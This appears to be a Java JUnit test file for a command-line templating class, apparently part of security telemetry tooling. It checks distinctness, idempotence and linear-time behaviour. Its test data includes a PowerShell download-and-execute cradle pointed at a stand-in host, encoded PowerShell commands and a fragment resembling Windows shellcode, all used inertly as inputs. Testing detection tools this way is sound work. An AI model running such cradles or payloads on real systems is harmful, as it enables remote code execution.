package dev.longtail.udfs.template;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.udfs.io.JsonLines;
import dev.longtail.udfs.testing.Any;
import dev.longtail.udfs.testing.Property;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandTemplateTest {
  private static final Pattern DIGEST = Pattern.compile(":[0-9a-f]{16}>");

  static List<String[]> examplesOfTheDocumentation() throws IOException {
    Pattern row = Pattern.compile("\\| `(.*)` \\| `(.*)` \\|");
    List<String[]> examples = new ArrayList<>();
    boolean reached = false;
    for (String line : Files.readAllLines(Path.of("../docs/templates.md"))) {
      reached |= line.equals("## Examples");
      Matcher cells = row.matcher(line);
      if (reached && cells.matches()) {
        examples.add(
            new String[] {
              cells.group(1).replace("\\|", "|"), cells.group(2).replace("\\|", "|"),
            });
      }
    }
    return examples;
  }

  @ParameterizedTest
  @MethodSource("examplesOfTheDocumentation")
  void doesWhatTheDocumentationShows(String line, String template) {
    assertThat(DIGEST.matcher(CommandTemplate.of(line)).replaceAll(":DIGEST>")).isEqualTo(template);
  }

  @Test
  void theDocumentationHasExamples() throws IOException {
    assertThat(examplesOfTheDocumentation()).hasSizeGreaterThan(30);
  }

  @Test
  void differentPayloadsHaveDifferentTemplates() {
    assertThat(CommandTemplate.of("powershell -enc dwBoAG8AYQBtAGkA"))
        .isNotEqualTo(CommandTemplate.of("powershell -enc aABvAHMAdABuAGEAbQBlAA=="));
    assertThat(CommandTemplate.of("printf \"\\x41\\x42\\x43\\x44\""))
        .isNotEqualTo(CommandTemplate.of("printf \"\\x41\\x42\\x43\\x45\""));
    String shellcode = "fce8820000006089e531c0648b50308b520c8b52148b7228";
    assertThat(CommandTemplate.of("x " + shellcode))
        .startsWith("x <hex:")
        .isNotEqualTo(CommandTemplate.of("x " + shellcode.replace("8b50", "8b51")));
    assertThat(CommandTemplate.of("(72,101,108,108,111,33,33,33)"))
        .isNotEqualTo(CommandTemplate.of("(72,101,108,108,111,33,33,34)"));
  }

  /** Of payloads of 24 bytes or more, all written in one way, no two may share a template. */
  @ParameterizedTest
  @EnumSource
  void payloadsOfAnyWritingAreToldApart(Writing writing) {
    Random random = new Random(11);
    Set<String> payloads = new HashSet<>();
    Set<String> templates = new HashSet<>();
    for (int i = 0; i < 3000; i++) {
      byte[] bytes = new byte[24 + random.nextInt(100)];
      random.nextBytes(bytes);
      String payload = writing.write.apply(bytes);
      payloads.add(payload);
      templates.add(CommandTemplate.of("tool -x " + payload + " -q"));
    }
    assertThat(templates).hasSameSizeAs(payloads);
  }

  private enum Writing {
    BASE64(bytes -> Base64.getEncoder().encodeToString(bytes)),
    BASE64_URL(bytes -> Base64.getUrlEncoder().withoutPadding().encodeToString(bytes)),
    BASE64_OF_TEXT(bytes -> Base64.getEncoder().encodeToString(text(bytes).getBytes(UTF_8))),
    BASE64_OF_UTF16(bytes -> Base64.getEncoder().encodeToString(text(bytes).getBytes(UTF_16LE))),
    HEXADECIMAL(bytes -> HexFormat.of().formatHex(Arrays.copyOf(bytes, 60))),
    NUMBERS(bytes -> HexFormat.ofDelimiter(", ").withPrefix("0x").formatHex(bytes)),
    ESCAPES(bytes -> HexFormat.of().withPrefix("\\x").formatHex(bytes));

    @SuppressWarnings("ImmutableEnumChecker") // the functions hold nothing
    private final Function<byte[], String> write;

    Writing(Function<byte[], String> write) {
      this.write = write;
    }

    private static String text(byte[] bytes) {
      String characters = "IEX(New-Object Net.WebClient).DownloadString('http://a.b/c') | sort -u";
      StringBuilder text = new StringBuilder();
      for (byte b : bytes) {
        text.append(characters.charAt((b & 0xff) % characters.length()));
      }
      return text.toString();
    }
  }

  @Test
  void collapsesWhiteSpaceAndKeepsCase() {
    assertThat(CommandTemplate.of("  Get-Item \t X\r\n| \u00a0 ft  ")).isEqualTo("Get-Item X | ft");
    assertThat(CommandTemplate.of(" \t\n")).isEmpty();
    assertThat(CommandTemplate.of("")).isEmpty();
  }

  @Test
  void takesAnyCharacter() {
    String odd = "\ud800 a\u0001b \udfff\u0007 \u540d\u524d9";
    assertThat(CommandTemplate.of(odd)).isEqualTo("\ud800 a\u0001b \udfff\u0007 \u540d\u524d<num>");
  }

  /** Kernels write the arguments of a process with NUL between and behind them. */
  @Test
  void nulIsABlank() {
    assertThat(CommandTemplate.of("ntpd\0-p\0/run/a.pid\0-u\000112:116\0"))
        .isEqualTo(CommandTemplate.of("ntpd -p /run/a.pid -u 112:116"));
    assertThat(CommandTemplate.of("\0")).isEmpty();
  }

  @Test
  void aTemplateThatIsWrittenInALineIsLeftAlone() {
    String line = "a <num> <b64:0123456789abcdef> <guid>x <tmp>.sh <no> <num";
    assertThat(CommandTemplate.of(line)).isEqualTo(line);
    assertThat(CommandTemplate.of("<b64:0123>")).isEqualTo("<b<num>:<num>>");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/9.bob@h.com",
        "<num>9.bob@h.com",
        "<num>a/SGVsbG8gV29ybGQhIEhvdyBhcmUgeW91",
        "9a/SGVsbG8gV29ybGQhIEhvdyBhcmUgeW91+abc",
        "9/home/bob",
        "5&1 <num>&1 2<num> 2>&1",
        "/tmp/.<num>x.sh",
        "2>&1@host.example.com.9",
        "git+bob@host.example.com.9",
        "2>&1%41%41%41%41%41",
        "python3\\x41\\x42\\x43\\x44\\x45",
        "python3.7\\x41\\x42\\x43\\x44\\x45",
        "x86_64\\x41\\x42\\x43\\x44\\x45",
        "UTF-8\\x41\\x42\\x43\\x44\\x45",
        "/Users/Shared%41%42%43%44",
        "x9-deadbeef-a3f2-a3f2-a3f2-abcdefabcdef",
        "$3\\x00\\x00\\x0a\\x0d\\x\\",
        "9/a-SGVsbG8gV29ybGQhIEhvdyBhcmUgeW91/9/SGVsbG8gV29ybGQhIEhvdyBhcmUgeW91",
        "1,2,3,4,5,6,7,8,9,1.5"
      })
  void isIdempotentWhereAPlaceholderAdjoins(String line) {
    String template = CommandTemplate.of(line);
    assertThat(CommandTemplate.of(template)).isEqualTo(template);
  }

  @Property(tries = 5000)
  void isIdempotentOnAnyString(Any any) {
    String line = any.text();
    String template = CommandTemplate.of(line);
    assertThat(CommandTemplate.of(template)).isEqualTo(template);
  }

  @Property(tries = 20000)
  void isIdempotentOnFragments(Any any) {
    String line = fragments(any);
    String template = CommandTemplate.of(line);
    assertThat(CommandTemplate.of(template)).isEqualTo(template);
  }

  @Property(tries = 20000)
  void isIdempotentOnFewCharacters(Any any) {
    String line = fewCharacters(any);
    String template = CommandTemplate.of(line);
    assertThat(CommandTemplate.of(template)).isEqualTo(template);
  }

  /** Few characters, so that forms, half of them, and their neighbours come about by chance. */
  private static String fewCharacters(Any any) {
    return any.text("01aFx9Tz:-._/\\@%+=<>&, ", 60);
  }

  /** What forms are made of, whole, broken, and glued together. */
  private static String fragments(Any any) {
    String[] parts = {
      "/tmp/",
      "\\Temp\\",
      "%TEMP%\\",
      "$env:TEMP/",
      "/var/folders/",
      "C:\\Users\\",
      "/home/",
      "/Users/",
      "Documents and Settings\\",
      "<num>",
      "<b64:0123456789abcdef>",
      "<tmp>",
      "<",
      ">",
      "&",
      "2>&1",
      ">&1",
      "1",
      "12",
      "2024",
      "2024-01-31",
      "T12:30:00",
      "12:30:00",
      "Z",
      "20240131",
      "_",
      "123000",
      "10.0.0.1",
      "1.2",
      ".",
      ",",
      ":",
      "::",
      "-",
      "/",
      "\\",
      "@",
      "x",
      "x86",
      "_64",
      "utf",
      "-8",
      "python3",
      ".11",
      "7z",
      "k8s",
      "deadbeef",
      "a3f2",
      "ab",
      "90160000-008C-0000-1000-0000000FF1CE",
      "01:23:45:67:89:ab",
      "fe80",
      "dwBoAG8AYQBtAGkA",
      "TmV2ZXIgZ29ubmEgZ2l2ZSB5b3UgdXA",
      "=",
      "==",
      "+",
      "\\x41",
      "%41",
      "\\101",
      "0x",
      "0xfc,",
      "72, ",
      "9fceb02d0ae598e95dc970b74767f19372d61af8",
      "bob",
      "host.example.com",
      "git",
      "%",
      "}",
      "{",
      "$",
      " ",
      "\u00a0",
      "\u00e9",
      "XPFFH613W8V6LV",
      "\\x41\\x42\\x43\\x44",
      "%41%42%43%44",
      "$1",
      "${2}",
      "iso-8859-1",
      "Public",
      "App_1.0_x64__8wekyb3d8bbwe",
      "2, 9, 3, 7, 1, 2, 8, 4",
      "App_8wekyb3d8bbwe",
      "7,6,",
      "e_sSx62aAr7V-VAUYchf"
    };
    return String.join("", any.list(0, 12, () -> any.of(parts)));
  }

  @ParameterizedTest
  @ValueSource(strings = {"real", "benchmark/telemetry"})
  void isIdempotentOnRealLines(String folder) {
    Path lines = Path.of("../../shared/data").resolve(folder);
    Assumptions.assumeTrue(Files.isDirectory(lines), "no data beside the checkout");
    AtomicInteger count = new AtomicInteger();
    Set<String> seen = new HashSet<>();
    JsonLines.forEach(
        lines,
        (record, where) -> {
          count.incrementAndGet();
          String line = JsonLines.commandLine(record, where);
          if (seen.add(line)) {
            String template = CommandTemplate.of(line);
            assertThat(CommandTemplate.of(template)).as("%s", where).isEqualTo(template);
          }
        });
    assertThat(count).hasValueGreaterThan(10_000);
  }

  /** A quadratic scan of a million characters takes minutes. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "a",
        "1",
        "a1",
        "1a",
        "a-",
        "a.",
        "a/",
        "a+",
        "/",
        "\\",
        "1.",
        "1,",
        "0x1,",
        "1:",
        "a:",
        "::",
        "-",
        "_a",
        "a_",
        "@",
        "a@",
        "<",
        "<num>",
        "<b64:",
        "%",
        "%4",
        "\\x4",
        "\\x41",
        "=",
        "a=",
        "aB3",
        "aB3/",
        "/tmp/",
        "/tmp/a ",
        "C:\\Users\\",
        "%TEMP%\\",
        "2024-01-",
        "1-",
        "a.b@",
        " ",
        "x86_64",
        "utf-8",
        "utf-",
        "a.a@a.a",
        "dead:",
        "1/",
        "1/aB",
        "aB3/9-",
        "AbCdEfGhIjKlMnOpQ9sT/",
        "AAEA",
        "AAEA-",
        "1,22,",
        "$1"
      })
  @Timeout(value = 10, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
  void isLinearInTheLength(String part) {
    String line = part.repeat(1_000_000 / part.length());
    String template = CommandTemplate.of(line);
    assertThat(CommandTemplate.of(template)).isEqualTo(template);
  }

  @Test
  void thePartsOfALineAreTheLineAndItsTemplate() {
    List<TemplatePart> parts = CommandTemplate.parts("  scp   bob@h.example.com:/a  /tmp/x7/y.gz ");
    assertThat(parts)
        .extracting(TemplatePart::text)
        .containsExactly("  scp   ", "bob", "@h.example.com:/a  /tmp/", "x7/y", ".gz ");
    assertThat(parts)
        .extracting(part -> part.kind().orElse(null))
        .containsExactly(null, Placeholder.USER, null, Placeholder.TMP, null);
    assertThat(CommandTemplate.parts("")).isEmpty();
    assertThat(CommandTemplate.parts("ls -la")).hasSize(1);
  }

  @Property(tries = 5000)
  void thePartsOfAnyLineJoinToTheLineAndTheirKindsToItsTemplate(Any any) {
    String line = fragments(any);
    List<TemplatePart> parts = CommandTemplate.parts(line);
    StringBuilder joined = new StringBuilder();
    StringBuilder template = new StringBuilder();
    for (TemplatePart part : parts) {
      joined.append(part.text());
      template.append(part.kind().isEmpty() ? part.text() : part.kind().get().of(part.text()));
    }
    assertThat(joined.toString()).isEqualTo(line);
    String collapsed = CommandTemplate.of(line);
    if (parts.stream().noneMatch(part -> part.kind().isPresent() && part.text().contains(" "))) {
      assertThat(CommandTemplate.of(template.toString())).isEqualTo(collapsed);
    }
  }
}
